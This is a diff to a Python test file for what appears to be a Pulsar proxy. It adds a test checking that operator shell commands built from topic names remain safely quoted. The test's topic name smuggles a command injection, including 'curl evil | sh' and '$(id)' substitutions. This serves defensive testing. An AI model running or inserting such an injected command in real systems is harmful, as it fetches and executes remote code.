@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import shlex
+
 import pytest
 
 from proxy.core import reposition
@@ -10,6 +12,7 @@ from proxy.core.key_verdict import explained
 from proxy.core.worker_health import Urgency
 from proxy.errors import UpstreamError, UpstreamUnavailable
 from proxy.net.subscription.dead_letters import RECEIPT_S_MAX
+from proxy.net.subscription.own_topic_advice import DEAD_LETTERS, OPENING, PARKING
 from proxy.net.subscription.summary import subscription_summary, surroundings_of
 from proxy.wire import pulsar_pb2 as pb
 from proxy.wire.codecs import compress, opened_payload
@@ -131,6 +134,16 @@ def test_while_the_topic_is_unavailable_the_key_waits_and_says_why() -> None:
     receipt(rig)
     assert rig.link.acked() == [(LEDGER, 0)]
     assert rig.subscription.state.dispatcher.diversions.trouble == ""
+
+
+def test_a_command_that_helps_is_one_word_after_the_other_whatever_the_topics_name() -> None:
+    """A client chooses that, and an operator gives the command to a shell."""
+    topic = "persistent://public/default/a; curl evil | sh #$(id)`id` '"
+    for advices in (DEAD_LETTERS, PARKING, OPENING):
+        for each in advices.values():
+            _, command = each.of(topic, "orders billing")
+            words = [] if command is None else shlex.split(command)
+            assert command is None or {topic, "public/default", "billing"} & set(words), command
 
 
 @pytest.mark.parametrize(
